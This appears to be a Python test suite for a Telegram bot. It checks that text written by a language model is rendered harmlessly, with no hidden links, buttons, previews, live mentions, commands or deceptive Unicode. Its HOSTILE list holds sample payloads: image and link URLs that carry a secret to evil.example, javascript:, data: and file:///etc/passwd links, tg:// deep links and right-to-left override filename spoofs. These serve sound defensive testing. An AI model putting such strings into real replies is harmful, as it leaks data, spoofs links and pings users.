"""What a model may not do with its words: no button, no hidden link, no preview, no ringing, no text that deceives.

See P24, T22, T23 in docs/promises.md.

Judged by what the sandbox's Telegram received: drafts, edits, messages, rich messages, plain text after a refusal.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest

from bot.sandbox.telegram.http import ApiCall
from bot.telegram.render import parse, pieces, plain, rich
from bot.texts.catalog import say
from tests.support.stage import ANNA, TEAM, Stage
from tests.support.telegram_side import DRAFTS, LOUD, QUESTION, drafts, loud

HOSTILE = (
    "Read [the manual](https://evil.example/?q=SECRET) and [here](<https://evil.example/a>).",
    "![](https://evil.example/p.png?d=SECRET) ![logo](https://evil.example/p.png?d=SECRET)",
    "https://evil.example/?d=SECRET <https://evil.example/b>",
    "[https://bank.example](https://evil.example) [bank.example](https://bank.example@evil.example)",
    "[open](tg://resolve?domain=thief) [me](tg://user?id=1001) tg://openmessage?user_id=1001 TON://transfer/x",
    "[x](javascript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=) [z](file:///etc/passwd) [v](vbscript:x)",
    "@anna @boris, @clara: look! (@operator) **@everyone** > @admin",
    "@**victim** .@victim /**stop** @/stop http://localhost/@victim http://[::1]/stop [x](mailto:@victim) xtg://x",
    "| @victim | b |\n|---|---|\n| " + "слово " * 20 + " | @other |",
    "# @victim in a heading\n\n- @victim in a list\n- [ ] @victim in a task\n\n> @victim in a quote",
    "/stop /new /image@govorun_sandbox_bot a cat, (/settings) and **/start**",
    "<tg-button url='https://evil.example'>Pay</tg-button> <a href='tg://user?id=1001'>Anna</a> <b>x</b>",
    "[Pay](buttonurl://evil.example) {inline_keyboard:[[{text:'Pay'}]]} [Stop](callback:stop)",
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200fabc \u202dx",
    "plain\U000e0001\U000e0068\U000e0069\U000e007f text\U000e0100 \ufff9a\ufffab\ufffb",
    "[safe\u202e](https://evil.example/\u202egpj.exe)",
    "$x^2$ and [a](https://evil.example/f) in a formula's message @victim /stop",
    "```\n@code /stop tg://resolve [a](https://evil.example)\n```",
    "`@code` and \\[ @formula_1 = \\frac{1}{2} \\]",
)
SHOWN_AS_IS = re.compile("[\u202a-\u202e\u2066-\u2069\ufff9-\ufffb\U000e0000-\U000e01ef]")
LOOKS = {"bold", "italic", "strikethrough", "code", "pre", "blockquote", "expandable_blockquote", "text_link"}
BLOCKS = {
    "paragraph", "heading", "pre", "mathematical_expression", "divider", "blockquote", "list", "table", "bold",
    "italic", "strikethrough", "code", "url", "1",
}  # fmt: skip
LIVE = {"mention", "bot_command", "text_mention"}


def value(call: ApiCall, name: str) -> Any:
    given = call.params.get(name)
    return json.loads(given) if isinstance(given, str) and given[:1] in "[{" and name != "text" else given


SHOW = "|".join(say(language, "kb.source") for language in ("en", "ru"))
OURS = re.compile(rf"(?:↻q\.n\.|{SHOW})[\w-]{{16}}")  # a button of the bot's own: a fixed sign, a random key


def harmless(call: ApiCall) -> None:
    """One call of the bot that shows words of the model."""
    assert "parse_mode" not in call.params
    if call.method in ("sendMessage", "editMessageText") and "text" in call.params:
        assert value(call, "link_preview_options")["is_disabled"] is True
    text = str(call.params.get("text", "")) + str(call.params.get("rich_message", ""))
    assert not SHOWN_AS_IS.search(text), call.params
    for button in buttons(value(call, "reply_markup")):
        assert button["callback_data"] == "stop" or OURS.fullmatch(button["text"] + button["callback_data"])
    entities = value(call, "entities") or []
    assert {entity["type"] for entity in entities} <= LOOKS
    for url in [entity["url"] for entity in entities if "url" in entity]:
        assert url.startswith(("https://", "http://"))
        assert url in text, f"{url} is hidden in {text!r}"
    if "rich_message" in call.params:
        harmless_blocks(value(call, "rich_message"), text)


def harmless_blocks(message: dict[str, Any], text: str) -> None:
    assert set(message) == {"blocks"}  # never its markdown or html: Telegram would parse those
    for node in nodes(message["blocks"]):
        assert node.get("type", "paragraph") in BLOCKS
        if "url" in node:
            assert text.count(node["url"]) > 1, f"{node['url']} is hidden"


def nodes(value: Any) -> Iterator[dict[str, Any]]:
    if isinstance(value, dict):
        yield value
    for inner in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from nodes(inner)


def buttons(markup: Any) -> list[dict[str, Any]]:
    return [button for row in (markup or {}).get("inline_keyboard", []) for button in row]


def alive(message: dict[str, Any]) -> set[str]:
    """What the server found in a message that acts: mentions, commands, links into the app."""
    found = message.get("entities", [])
    raw = message.get("text", "").encode("utf-16-le")
    acting = {
        "tg:" for one in found
        if one["type"] == "url" and raw[2 * one["offset"] :].decode("utf-16-le").lower().startswith(("tg:", "ton:"))
    }  # fmt: skip
    return {one["type"] for one in found} & LIVE | acting


@pytest.mark.parametrize("streaming", ["draft", "edit"])
async def test_what_a_model_writes_in_private_is_harmless_on_every_way(stage: Stage, streaming: str) -> None:
    await stage.start(streaming=streaming, telegram_chat_rate=0)
    stage.studio.speed = 50
    for answer in HOSTILE:
        stage.studio.script([answer[: len(answer) // 2], answer[len(answer) // 2 :]])
        await stage.ask("tell me")
    seen = loud(stage) + drafts(stage)
    assert len(seen) >= len(HOSTILE)
    for call in seen:
        harmless(call)
    mine = [m for m in stage.telegram.transcript(ANNA) if m["from"]["id"] == stage.telegram.state.profile.id]
    assert [alive(message) for message in mine] == [set()] * len(HOSTILE)
    assert stage.telegram.remarks == []


async def test_what_a_model_writes_in_a_group_is_harmless(stage: Stage) -> None:
    await stage.start(telegram_chat_rate=0, user_rate=0, chat_queue=len(HOSTILE))
    for answer in HOSTILE:
        stage.studio.script(answer)
        stage.telegram.say(TEAM, QUESTION, ANNA)
    await stage.texts(len(HOSTILE), TEAM)
    for call in loud(stage, TEAM):
        harmless(call)
    mine = [m for m in stage.telegram.transcript(TEAM) if m["from"]["id"] == stage.telegram.state.profile.id]
    assert [alive(message) for message in mine] == [set()] * len(HOSTILE)


async def test_even_the_last_rung_has_no_preview_and_rings_at_nobody(stage: Stage) -> None:
    await stage.start(streaming="off", rich_messages=False)
    stage.telegram.fail_next("sendMessage", code=400, description="Bad Request: can't parse entities")
    stage.studio.script("**Hello** @victim, see [a](https://evil.example) tg://resolve?domain=x \u202eabc")
    text = await stage.ask("tell me")
    assert text.startswith("**Hello** @\u2060victim")
    harmless(loud(stage)[-1])
    assert alive(stage.telegram.transcript(ANNA)[-1]) == set()


async def test_a_name_that_mentions_somebody_rings_at_nobody(stage: Stage) -> None:
    await stage.start()
    stage.telegram.state.people[ANNA].first_name = "@victim"
    stage.telegram.say(ANNA, "/start")
    await stage.texts(1)
    assert "mention" not in alive(stage.telegram.transcript(ANNA)[-1])


async def test_the_bot_s_own_help_has_commands_to_tap(stage: Stage) -> None:
    await stage.start()
    await stage.ask("/help")
    assert alive(stage.telegram.transcript(ANNA)[-1]) == {"bot_command"}


async def test_every_call_that_shows_words_is_looked_at_here(stage: Stage) -> None:
    """A new way to send would have to be judged too."""
    await stage.start()
    stage.studio.script("word " * 50, "| a |\n|---|\n| b |")
    await stage.ask("one")
    await stage.ask("two")
    wordy = {call.method for call in stage.telegram.calls if {"text", "rich_message", "caption"} & set(call.params)}
    assert wordy <= {*LOUD, *DRAFTS}


@pytest.mark.parametrize("count", [99, 150, 600])
def test_mass_mentions_stay_code_however_many_there_are(count: int) -> None:
    found = pieces(parse(" ".join(f"@name{number:04d}" for number in range(count))))
    for piece in found:
        assert len(piece.entities) == piece.text.count("@") <= 100
        assert {entity["type"] for entity in piece.entities} == {"code"}
    assert sum(piece.text.count("@") for piece in found) == count


@pytest.mark.parametrize(
    "text", ["a@ex.org", "x@y", "5 @ 6", "и/или", "a/b/c", "https://ex.org/path/@name", "3/4", "</b>", "//", "@"]
)
def test_what_telegram_finds_nothing_in_is_left_alone(text: str) -> None:
    (piece,) = pieces(parse(text))
    assert (piece.text, piece.entities) == (text, ())
    assert plain(text) == [text]


def test_a_mention_in_a_rich_message_is_code_too() -> None:
    found = rich(parse("| a |\n|---|\n| @victim |\n\n**/stop** tg://x"))
    code = [node["text"] for node in nodes(found) if node.get("type") == "code"]
    assert code == ["@victim", "/stop", "tg://x"]
